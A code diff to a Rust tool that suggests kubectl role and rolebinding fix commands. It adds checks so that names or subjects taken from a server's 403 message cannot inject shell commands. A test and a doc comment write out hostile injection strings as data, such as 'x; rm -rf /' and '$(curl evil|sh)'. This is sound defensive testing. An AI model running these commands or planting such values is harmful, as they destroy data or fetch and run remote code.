@@ -174,14 +174,44 @@ pub fn role_name(target: &Target) -> String {
     n.trim_end_matches(['-', '.']).to_string()
 }
 
+/// A Kubernetes object name (DNS-1123 subdomain characters), safe to paste into a shell.
+fn is_name(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 253
+        && s.bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.')
+}
+
+/// A subject (user or `system:serviceaccount:NS:SA`) as the API server names it, restricted to
+/// characters safe to paste into a shell.
+fn is_subject(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 253
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'.' | b'_' | b'@' | b'-'))
+}
+
 /// `kubectl create role` and `rolebinding` commands granting `rule` to `subject` (as the API
 /// server names it: `system:serviceaccount:NS:SA`, or a user).
+///
+/// The subject comes from the server's 403 message and the names may too: a value that is not
+/// a plain Kubernetes name or subject (`x; curl evil | sh`) is never put into a command. An
+/// unusable subject gives the placeholder form; an unusable name gives no commands at all.
 pub fn fix_commands(
     role: &str,
     namespace: &str,
     subject: Option<&str>,
     rule: &Rule,
 ) -> Vec<String> {
+    let names_ok = is_name(role)
+        && is_name(namespace)
+        && is_name(rule.resource)
+        && (rule.group.is_empty() || is_name(rule.group))
+        && rule.verbs.iter().all(|v| is_name(v))
+        && rule.names.iter().all(|n| is_name(n));
+    if !names_ok {
+        return Vec::new();
+    }
     let resource = if rule.group.is_empty() {
         rule.resource.to_string()
     } else {
@@ -195,6 +225,7 @@ pub fn fix_commands(
         create.push_str(&format!(" --resource-name={n}"));
     }
     create.push_str(&format!(" -n {namespace}"));
+    let subject = subject.filter(|s| is_subject(s));
     let who = match subject.and_then(|s| s.strip_prefix("system:serviceaccount:")) {
         Some(sa) => format!("--serviceaccount={sa}"),
         None => match subject {
@@ -255,5 +286,34 @@ mod tests {
         assert!(y.contains(
             "- apiGroups: [\"\"]\n  resources: [\"secrets\"]\n  resourceNames: [\"litellm-api-user\"]\n  verbs: [\"get\", \"watch\"]\n"
         ));
+    }
+
+    #[test]
+    fn a_hostile_subject_or_name_is_never_put_into_a_suggested_command() {
+        let r = rules(&secret());
+        let cmds = fix_commands("kwait-litellm-api-user", "crs", Some("x; rm -rf /"), &r[0]);
+        assert_eq!(cmds.len(), 2);
+        assert!(
+            cmds.iter()
+                .all(|c| !c.contains(';') && !c.contains("rm -rf")),
+            "{cmds:?}"
+        );
+        assert!(
+            cmds[1].contains("--serviceaccount=crs:<service-account>"),
+            "{cmds:?}"
+        );
+        let cmds = fix_commands(
+            "kwait-x",
+            "crs",
+            Some("system:serviceaccount:crs:$(curl evil|sh)"),
+            &r[0],
+        );
+        assert!(cmds.iter().all(|c| !c.contains("curl")), "{cmds:?}");
+        // A name that is not a Kubernetes name: no command at all.
+        assert!(fix_commands("kwait-x", "crs; rm -rf /", None, &r[0]).is_empty());
+        assert!(fix_commands("kwait-x`id`", "crs", None, &r[0]).is_empty());
+        // Ordinary users and service accounts still get their commands.
+        let cmds = fix_commands("kwait-x", "crs", Some("alice@example.com"), &r[0]);
+        assert!(cmds[1].contains("--user=alice@example.com"), "{cmds:?}");
     }
 }
